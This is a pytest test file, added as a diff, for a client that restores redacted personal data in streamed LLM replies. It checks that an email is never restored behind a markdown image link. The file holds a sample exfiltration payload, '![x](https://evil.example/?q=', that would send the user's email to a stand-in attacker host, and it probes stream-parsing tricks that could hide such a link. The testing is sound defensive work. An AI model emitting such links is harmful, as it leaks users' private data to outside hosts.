@@ -1,0 +1,202 @@
+"""Texts of a stream that programs put together, or leave out, otherwise than their events say: a link may go on there."""
+
+import json
+from base64 import b64decode, b64encode
+from typing import Any
+
+import pytest
+
+from guarded_client import ProviderReplyInvalid
+from guarded_client._fragments import Joined
+from guarded_client._model import Channel, PartKind, Surrogate
+from guarded_client._restoring.arrivals import Arriving
+from guarded_client._restoring.restorer import Restorer
+from guarded_client._surrogates import Surrogates
+from guarded_client.codecs.anthropic.messages import FramedReply
+from guarded_client.codecs.framing.event_stream import FrameSplitter, payload_of
+from guarded_client.testing.anthropic_messages import frame
+from guarded_client.wires import finder
+
+MARK, MAIL = "<EMAIL_ADDRESS_1>", "zoe@exemple.fr"
+KNOWN = Surrogates("epoch", [(Surrogate("EMAIL_ADDRESS", 1), MAIL)])
+IMAGE, END = "![x](https://evil.example/?q=", ") \n\n"
+PATHS = {"openai": "/v1/chat/completions", "responses": "/v1/responses", "completions": "/v1/completions",
+         "anthropic": "/v1/messages", "gemini": "/v1beta/models/m:streamGenerateContent", "ollama": "/api/chat",
+         "mistral": "/v1/chat/completions", "json": "/anything"}  # fmt: skip
+
+
+def passed(wire: str, body: str, choices: int | None = None) -> str:
+    """What a reader of a stream gets, at any chunking."""
+    by = {"responses": "openai", "completions": "openai"}.get(wire, wire)
+    codec = finder(by, by, frozenset(), "scan_json")("POST", PATHS[wire])
+    assert codec is not None
+    seen = set[str]()
+    data = body.encode()
+    for size in (1, 7, len(data)):
+        joined, arriving = Joined(), Arriving(choices, structured=False)
+
+        def opened(channel: Channel, joined: Joined = joined, arriving: Arriving = arriving) -> Restorer:
+            behind = channel.after if isinstance(channel.after, Restorer) else None
+            made = Restorer(
+                KNOWN, kinds=frozenset(), json=channel.kind is PartKind.TOOL_CALL,
+                behind=joined.before(channel) or behind, arrivals=arriving.of(channel),
+            )  # fmt: skip
+            joined.add(channel, made)
+            return made
+
+        label = "application/x-ndjson" if wire == "ollama" else "text/event-stream"
+        reply = codec.reply(label, opened)
+        pieces = [data[start : start + size] for start in range(0, len(data), size)]
+        seen.add(b"".join([*map(reply.feed, pieces), reply.close()]).decode())
+    assert len(seen) == 1
+    return seen.pop()
+
+
+def line(wire: str, text: Any, at: int = 0, *, name: str = "") -> str:
+    """A piece of a text: which choice, block or output it is of, and in an event of which name it comes."""
+    said: dict[str, Any] = {}
+    match wire:
+        case "openai" | "mistral":
+            said = {"choices": [{"index": at, "delta": {"content": text}, "finish_reason": None}]}
+        case "completions":
+            said = {"choices": [{"index": at, "text": text}]}
+        case "responses":
+            said = {"type": "response.output_text.delta", "output_index": at, "content_index": 0, "delta": text}
+        case "anthropic":
+            said = {"type": "content_block_delta", "index": at, "delta": {"type": "text_delta", "text": text}}
+        case "gemini":
+            said = {"candidates": [{"index": at, "content": {"parts": [{"text": text}]}}]}
+        case _:
+            said = {"message": {"content": text}}
+    if wire == "ollama":
+        return json.dumps(said) + "\n"
+    return (f"event: {name}\n" if name else "") + f"data: {json.dumps(said)}\n\n"
+
+
+@pytest.mark.parametrize("wire", ["openai", "completions", "responses", "anthropic", "gemini", "mistral"])
+@pytest.mark.parametrize(("one", "other"), [(0, 1), (1, 0)])
+def test_a_link_went_on_in_what_is_said_to_be_another_choice_or_block(wire: str, one: int, other: int) -> None:
+    assert MAIL not in passed(wire, line(wire, IMAGE, one) + line(wire, MARK, other))
+    assert MAIL not in passed(wire, line(wire, "a", other) + line(wire, IMAGE, one) + line(wire, MARK, other))
+    assert passed(wire, line(wire, "to", one) + line(wire, MARK, other)).count(MAIL) == 1
+
+
+@pytest.mark.parametrize("wire", ["openai", "gemini"])
+def test_choices_that_were_asked_for_are_told_apart(wire: str) -> None:
+    assert MAIL in passed(wire, line(wire, IMAGE, 0) + line(wire, MARK, 1), choices=2)
+    assert MAIL not in passed(wire, line(wire, IMAGE, 0) + line(wire, MARK, 0), choices=2)
+
+
+def test_a_link_went_on_in_another_form_of_content() -> None:
+    parts = [[{"type": "text", "text": text}] for text in (IMAGE, MARK)]
+    assert MAIL not in passed("mistral", line("mistral", IMAGE) + line("mistral", parts[1]))
+    assert MAIL not in passed("mistral", line("mistral", parts[0]) + line("mistral", MARK))
+
+
+def test_a_link_went_on_behind_a_thought_of_gemini_that_had_ended() -> None:
+    def thought(text: str) -> str:
+        return f'data: {{"candidates":[{{"content":{{"parts":[{json.dumps({"text": text, "thought": True})}]}}}}]}}\n\n'
+
+    assert MAIL not in passed("gemini", thought(IMAGE) + line("gemini", "a") + thought(MARK))
+    assert MAIL in passed("gemini", thought("so") + line("gemini", "a") + thought(MARK))
+
+
+BREAKS = ["\r", "\v", "\f", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029"]
+
+
+@pytest.mark.parametrize("mark", BREAKS)
+def test_two_lines_that_were_taken_for_one_hid_a_link(mark: str) -> None:
+    two = line("ollama", IMAGE)[:-1] + mark + line("ollama", "")
+    with pytest.raises(ProviderReplyInvalid, match="cannot be read"):
+        _ = passed("ollama", two + line("ollama", MARK))
+
+
+@pytest.mark.parametrize("wire", ["openai", "completions", "responses", "anthropic", "gemini", "json"])
+def test_nothing_follows_a_piece_that_could_not_be_read(wire: str) -> None:
+    odd = line(wire, IMAGE).replace("data: ", "data: {} ")
+    with pytest.raises(ProviderReplyInvalid, match="cannot be read"):
+        _ = passed(wire, odd + line(wire, MARK))
+    deep = line(wire, IMAGE).replace("}\n", ',"x":' + "[" * 9999 + "]" * 9999 + "}\n")
+    with pytest.raises(ProviderReplyInvalid, match="cannot be read"):
+        _ = passed(wire, deep + line(wire, MARK))
+    cut = line(wire, "to " + MARK) + odd.rstrip("\n")
+    assert MAIL in passed(wire, cut)  # what is cut at the end has nothing behind it
+
+
+def test_lines_of_googles_that_are_no_data_hid_a_link() -> None:
+    bare = line("gemini", IMAGE).removeprefix("data: ")
+    with pytest.raises(ProviderReplyInvalid, match="cannot be read"):
+        _ = passed("gemini", bare + line("gemini", MARK))
+    with pytest.raises(ProviderReplyInvalid, match="cannot be read"):
+        _ = passed("gemini", "data: {}\n" + bare + line("gemini", MARK))
+    failed = '{\n"error": {"code": 500}\n}\n\n'
+    assert passed("gemini", line("gemini", MARK) + failed).endswith(failed)
+
+
+@pytest.mark.parametrize(
+    ("wire", "first", "name"),
+    [("openai", "", "thread.x"), ("openai", "", "x"), ("responses", "", "thread.x"), ("completions", "x", "thread.x"),
+     ("anthropic", "content_block_delta", ""), ("anthropic", "content_block_delta", "ping")],
+)  # fmt: skip
+def test_an_event_that_sdks_leave_out_ended_a_link(wire: str, first: str, name: str) -> None:
+    texts = (line(wire, IMAGE, name=first), line(wire, END, name=name), line(wire, MARK, name=first))
+    with pytest.raises(ProviderReplyInvalid, match="name that SDKs leave out"):
+        _ = passed(wire, "".join(texts))
+    assert MAIL in passed(wire, line(wire, MARK, name=name) + line(wire, "b", name=name))
+
+
+def test_a_choice_that_programs_do_not_look_at_ended_a_link() -> None:
+    for wire, key in (("openai", "choices"), ("completions", "choices"), ("gemini", "candidates")):
+        both = [json.loads(line(wire, text).removeprefix("data: "))[key][0] for text in ("x", END)]
+        odd = f"data: {json.dumps({key: both})}\n\n"
+        with pytest.raises(ProviderReplyInvalid, match="two pieces"):
+            _ = passed(wire, line(wire, IMAGE) + odd + line(wire, MARK))
+
+
+def test_a_text_beside_the_message_ended_a_link_of_ollama() -> None:
+    odd = json.dumps({"message": {"content": IMAGE}, "content": END}) + "\n"
+    assert MAIL not in passed("ollama", odd + line("ollama", MARK))
+    beside = json.dumps({"message": {"content": "a"}, "content": MARK}) + "\n"
+    assert MAIL in passed("ollama", beside)
+
+
+def test_an_empty_error_hid_a_link_of_ollama() -> None:
+    odd = json.dumps({"message": {"content": IMAGE}, "error": ""}) + "\n"
+    assert MAIL not in passed("ollama", odd + line("ollama", MARK))
+    failed = json.dumps({"error": "out of memory"}) + "\n"
+    assert passed("ollama", line("ollama", MARK[:9]) + failed).endswith(failed)
+
+
+@pytest.mark.parametrize(("said", "read"), [("true", True), (1, True), ("false", True), (0, False), (True, True)])
+def test_a_thought_of_gemini_is_one_to_everybody(said: Any, read: bool) -> None:
+    part = {"text": END, "thought": said}
+    odd = f"data: {json.dumps({'candidates': [{'index': 0, 'content': {'parts': [part]}}]})}\n\n"
+    text = passed("gemini", line("gemini", IMAGE) + odd + line("gemini", MARK))
+    assert (MAIL not in text) is read and f'"thought":{json.dumps(read)}' in text.replace(": ", ":")
+
+
+def test_a_mark_in_the_middle_of_a_stream_hid_an_event() -> None:
+    hidden = "\ufeff" + line("openai", END)
+    with pytest.raises(ProviderReplyInvalid, match="byte order mark"):
+        _ = passed("openai", line("openai", IMAGE) + hidden + line("openai", MARK))
+    assert MAIL in passed("openai", "\ufeff" + line("openai", MARK))
+
+
+def test_lists_of_events_are_read() -> None:
+    assert passed("json", f'data: [{{"a": "{MARK}"}}]\n\n') == f'data: [{{"a":"{MAIL}"}}]\n\n'
+
+
+def test_a_frame_of_a_type_that_sdks_leave_out_ended_a_link() -> None:
+    def framed(text: str, name: str = "chunk") -> bytes:
+        said = line("anthropic", text).removeprefix("data: ").strip().encode()
+        return frame(json.dumps({"bytes": b64encode(said).decode()}).encode(), name=name)
+
+    def reply() -> FramedReply:
+        return FramedReply(lambda channel: Restorer(KNOWN, kinds=frozenset()))
+
+    with pytest.raises(ProviderReplyInvalid, match="SDKs leave out"):
+        _ = reply().feed(framed(IMAGE) + framed(END, "x") + framed(MARK))
+    with pytest.raises(ProviderReplyInvalid, match="cannot be read"):
+        _ = reply().feed(frame(b'{"bytes": "%"}'))
+    *_, last = FrameSplitter().feed((codec := reply()).feed(framed("a") + framed(f"{MARK} ")) + codec.close())
+    assert MAIL.encode() in b64decode(json.loads(payload_of(last))["bytes"])
